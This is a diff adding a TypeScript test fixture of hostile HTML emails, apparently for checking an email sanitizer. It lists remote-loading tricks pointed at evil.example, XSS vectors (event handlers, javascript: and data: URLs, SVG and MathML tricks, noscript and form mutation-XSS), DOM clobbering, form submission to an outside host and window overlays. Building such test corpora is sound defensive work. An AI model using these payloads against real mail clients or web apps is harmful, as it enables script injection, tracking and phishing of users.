@@ -1,0 +1,48 @@
+/** Mails that want to fetch, run, send or lead astray. Each names what it tries; all use hosts that do not exist. */
+
+const REMOTE = 'https://evil.example/x'
+const RUN = "window.top.hasRun=true;parent.hasRun=true;alert('run')"
+const QUOTED = RUN.replaceAll("'", '&#39;')
+
+export const hostileMails: Record<string, string> = {
+  'a remote image': `<img src="${REMOTE}.png" alt="x">`,
+  'a remote image without a scheme': '<img src="//evil.example/x.png" alt="x">',
+  'srcset and picture': `<picture><source srcset="${REMOTE}.webp"><img srcset="${REMOTE}.png 2x" alt="x"></picture>`,
+  'background attributes': `<body background="${REMOTE}.png"><table background="${REMOTE}.png"><tr><td background="${REMOTE}.png">x</td></tr></table>`,
+  'a style with url()': `<div style="background:url(${REMOTE})">x</div>`,
+  'a style with an escaped url()': `<div style="background:\\75rl(${REMOTE})">x</div>`,
+  'a style with image-set()': `<div style="background-image:image-set('${REMOTE}' 1x)">x</div>`,
+  'a style with a custom property': `<div style="--a:url(${REMOTE});background:var(--a)">x</div>`,
+  'a style sheet with @import': `<style>@import url(${REMOTE}.css);@import "${REMOTE}2.css";</style>x`,
+  'a style sheet with a font': `<style>@font-face{font-family:f;src:url(${REMOTE}.woff)}p{font-family:f}</style><p>x</p>`,
+  'a style sheet with url()': `<style>p{background:url(${REMOTE})}p::after{content:url(${REMOTE})}li{list-style:url(${REMOTE})}a{cursor:url(${REMOTE}),auto}</style><p>x</p><ul><li>x</ul>`,
+  'a style sheet that ends its element': `<style>p{content:"</style><img src=${REMOTE}>"}</style><p>x</p>`,
+  'a media rule with url()': `<style>@media all{p{background:url(${REMOTE})}}@supports(display:block){p{background:url(${REMOTE})}}</style><p>x</p>`,
+  'a link to a style sheet': `<link rel="stylesheet" href="${REMOTE}.css"><link rel="prefetch" href="${REMOTE}"><link rel="preconnect" href="https://evil.example">x`,
+  'dns-prefetch and preload': `<link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="${REMOTE}">x`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=${REMOTE}">x`,
+  'a base': `<base href="https://evil.example/"><img src="x.png" alt="x"><a href="y">y</a>`,
+  'video and audio': `<video src="${REMOTE}" poster="${REMOTE}.png" autoplay></video><audio src="${REMOTE}" autoplay></audio>`,
+  frames: `<iframe src="${REMOTE}"></iframe><frameset><frame src="${REMOTE}"></frameset><iframe srcdoc="<script>${QUOTED}</script>"></iframe>`,
+  'object and embed': `<object data="${REMOTE}"></object><embed src="${REMOTE}"><applet code="x" codebase="${REMOTE}"></applet>`,
+  'an svg with a remote image': `<svg><image href="${REMOTE}.png" xlink:href="${REMOTE}.png"/><use href="${REMOTE}.svg#a"/></svg>`,
+  'an svg with an animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a><set attributeName="onload" to="${RUN}"/></svg>`,
+  mathml: `<math><mtext><img src=x onerror="${RUN}"></mtext><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  'a script': `<script>${RUN}</script><script src="${REMOTE}.js"></script>`,
+  'event handlers': `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onmouseover="${RUN}" style="width:500px;height:100px">x</div><details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}">`,
+  'a script after a broken comment': `<!--><img src=x onerror="${RUN}">--><![CDATA[<script>${RUN}</script>]]>`,
+  'nested mutation': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
+  'noscript mutation': `<noscript><p title="</noscript><img src=x onerror='${RUN.replaceAll("'", '"')}'>">`,
+  'a template': `<template><script>${RUN}</script><img src="${REMOTE}"></template>`,
+  'a form': `<form action="${REMOTE}" method="post"><input name="q" value="secret"><button>Go</button></form><button formaction="${REMOTE}">x</button><input type="image" src="${REMOTE}.png">`,
+  'a javascript link': `<a href="javascript:${RUN}" id="go">x</a><a href="&#106;avascript:${RUN}">y</a><a href="java\tscript:${RUN}">z</a>`,
+  'a data link': `<a href="data:text/html,<script>${QUOTED}</script>" id="go">x</a>`,
+  'a link that opens a window': `<a href="${REMOTE}" target="_blank" ping="${REMOTE}/ping" id="go">x</a>`,
+  'a link for the whole window': `<a href="${REMOTE}" target="_top" id="go">x</a><area href="${REMOTE}">`,
+  'a clobbered document': `<img name="body"><img name="documentElement"><form name="addEventListener"></form><a id="go" href="${REMOTE}">x</a>`,
+  'an svg image that runs': `<img alt="x" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replaceAll("'", '&quot;')}'><image href='${REMOTE}.png'/></svg>">`,
+  'an html image': `<img alt="x" src="data:text/html,<script>${QUOTED}</script>">`,
+  'a cover over the window': `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div><dialog open>x</dialog><div popover>x</div>`,
+  'data-url of its own': `<a data-url="javascript:${RUN}" id="go" role="link">x</a>`,
+  'an attribution and a portal': `<img attributionsrc="${REMOTE}" alt="x"><portal src="${REMOTE}"></portal><fencedframe src="${REMOTE}"></fencedframe>`,
+}
